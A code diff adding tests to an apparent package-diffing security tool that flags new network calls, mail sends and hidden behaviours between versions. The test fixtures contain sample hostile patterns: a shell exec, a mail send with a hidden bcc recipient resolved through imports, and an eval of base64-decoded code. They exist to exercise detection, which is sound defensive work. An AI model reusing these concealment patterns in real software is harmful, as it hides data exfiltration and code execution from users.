@@ -155,3 +155,43 @@ test('--history tells the time that the registry has', async () => {
   const report = await diffOf(specWord('a@1.0.0'), specWord('a@1.0.1'), { registry, history: 'ask' });
   expect(report.differences).toMatchObject([{ before: { release: { release: { published: { time: '2024-01-01T00:00:00.000Z', from: 'registry' } } } }, after: { release: { release: { tags: ['latest'] } } } }]);
 });
+
+describe('code that did not change', () => {
+  const quiet = { 'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}', 'other.js': "require('child_process').exec('id'); fetch('https://api.vendor.example/x');" };
+  const behaviors = (report: Report) => report.differences?.[0]?.behaviors.map(({ kind, behavior: { kind: what, place } }) => `${kind} ${what} ${place.path}`);
+
+  test('a constant that changes two imports away from where it is sent', async () => {
+    const files = (address: string) => ({ ...quiet, 'send.js': "const { to } = require('./pass'); require('nodemailer').createTransport().sendMail({ from: 'a@b.example', to: process.argv[2], bcc: to });", 'pass.js': "exports.to = require('./deep/setting').to;", 'deep/setting.js': `exports.to = ${address};` });
+    const report = await diffFiles(files('undefined'), files("'copy@other.example'"));
+    expect(behaviors(report)).toContain('added mail send.js');
+  });
+
+  test('what another file did all along is not new', async () => {
+    const report = await diffFiles({ ...quiet, 'index.js': '' }, { ...quiet, 'index.js': "fetch('https://api.vendor.example/x'); fetch('https://new.example/y');" });
+    expect(behaviors(report)).toEqual(['added network index.js']);
+    expect(report.differences?.[0]?.behaviors[0]?.behavior).toMatchObject({ host: 'new.example' });
+  });
+
+  test('what is still done elsewhere was not removed', async () => {
+    const report = await diffFiles({ ...quiet, 'index.js': "fetch('https://api.vendor.example/x');" }, { ...quiet, 'index.js': '' });
+    expect(behaviors(report)).toEqual([]);
+  });
+
+  test('a hidden recipient in it is kept, and still a finding', async () => {
+    const bad = modelCase('1.0.16');
+    const report = await diffFiles(bad, { ...bad, 'README.md': `${bad['README.md']}more`, 'package.json': bad['package.json']?.replace('1.0.16', '1.0.17') ?? '' });
+    expect(judged(report)).toContain('kept hidden-mail-recipient');
+  });
+
+  test('so is harm that a gate shows in a package of another kind', async () => {
+    const bad = { ...quiet, 'x.js': "const p = Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7Y29uc29sZS5sb2coMyk7', 'base64').toString(); eval(p);" };
+    const report = await diffFiles({ ...bad, 'index.js': '1' }, { ...bad, 'index.js': '2' });
+    expect(judged(report)).toContain('kept encoded-payload-executed');
+  });
+
+  test('a required file of any name', async () => {
+    const files = (text: string) => ({ ...quiet, 'index.js': "require('./data.bin');", 'data.bin': text });
+    const report = await diffFiles(files('1;'), files("fetch('https://new.example/y');"));
+    expect(behaviors(report)).toEqual(['added network data.bin']);
+  });
+});
